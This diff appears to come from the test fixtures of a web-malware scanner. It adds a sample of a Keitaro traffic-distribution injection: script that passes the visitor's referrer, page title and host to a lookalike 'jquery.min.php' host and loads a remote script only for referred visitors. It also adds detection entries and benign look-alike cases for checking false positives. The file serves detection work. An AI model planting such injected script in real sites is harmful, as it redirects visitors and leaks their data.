@@ -257,6 +257,17 @@ KEITARO = (
     "<script>document.write('<script src=\"https://trk.dealsfunnel.test/x9Kc2p.js?"
     "se_referrer=' + encodeURIComponent(document.referrer) + '&default_keyword=' + "
     "encodeURIComponent(document.title) + '&frm=script\"></scr' + 'ipt>');</script>")
+# … and as injected sites carry it (the 2014-2016 "snt2014" campaign at a head's end): the
+# referrer and the address handed through names, the tag written only for referred visitors
+KEITARO_NAMED = (
+    "<script>var a=''; var default_keyword = encodeURIComponent(document.title); var "
+    "se_referrer = encodeURIComponent(document.referrer); var host = encodeURIComponent("
+    "window.location.host); var base = \"http://cdn-jqlib.test/js/jquery.min.php\"; var n_url"
+    " = base + \"?default_keyword=\" + default_keyword + \"&se_referrer=\" + se_referrer + "
+    "\"&source=\" + host; var f_url = base + \"?c_utt=k7q2&c_utm=\" + encodeURIComponent("
+    "n_url); if (default_keyword !== null && default_keyword !== '' && se_referrer !== null "
+    "&& se_referrer !== ''){document.write('<script type=\"text/javascript\" src=\"' + f_url"
+    " + '\">' + '<' + '/script>');}</script>")
 APPENDED = '<script src="https://jqueryui-cdn-libs.test/ui.js"></script>'
 # British Airways' Magecart (RiskIQ's write-up): the payment form serialised on the pay
 # button's mouseup or touchend and posted by jQuery.ajax to a host of the attacker's;
@@ -361,6 +372,8 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
      ("redirect", H)),
     ("DollyWay loader rotating hacked sites, wp_footer", {"footer": DOLLYWAY}, ("tds-loader", H)),
     ("Keitaro JS integration, head", {"head": KEITARO}, ("tds-loader", M)),
+    ("Keitaro JS integration, referrer and address handed through names, head",
+     {"head": KEITARO_NAMED}, ("tds-loader", M)),
     ("Balada fromCharCode src, head", {"head": BALADA_SRC}, ("obfuscated-script", H)),
     ("Balada eval(fromCharCode), in the post", {"post": BALADA_EVAL}, ("obfuscated-script", H)),
     ("Balada char-code tag and src, head", {"head": BALADA_CODED_TAG}, ("obfuscated-script", H)),
@@ -667,6 +680,11 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         "<script>document.write('\\x3Cscript src=\"//ra.blogcount.example/analyze.js?uid=a1b2"
         "&ref='+encodeURIComponent(document.referrer)+'\">\\x3C/script>');</script><noscript>"
         "<img src='//xa.blogcount.example/bin/ll?190123' alt=''></noscript>")}),
+    # the Keitaro form on the site's own host (its own tracker), and in a post's <pre>
+    ("a referrer-keyed script of the site's own host, built through names", {"head":
+        KEITARO_NAMED.replace("http://cdn-jqlib.test", SITE)}),
+    ("the Keitaro form quoted in a post's <pre>", {"post": "<pre>" + KEITARO_NAMED.replace(
+        "<", "&lt;").replace(">", "&gt;") + "</pre>"}),
     ("analytics pasted after </html>", {"after": (
         "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
         "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
